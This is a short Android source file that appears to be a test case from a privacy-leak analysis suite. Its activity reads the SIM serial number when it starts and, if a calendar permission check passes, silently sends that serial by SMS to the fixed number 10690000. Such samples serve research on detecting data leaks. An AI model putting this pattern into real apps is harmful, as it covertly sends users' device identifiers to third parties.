package cn.privlens.suite.permission_asked_for;

import android.app.Activity;
import android.content.pm.PackageManager;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String sim = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber();
        if (checkCallingOrSelfPermission("android.permission.READ_CALENDAR") == PackageManager.PERMISSION_GRANTED) {
            SmsManager.getDefault().sendTextMessage("10690000", null, sim, null, null);
        }
    }
}
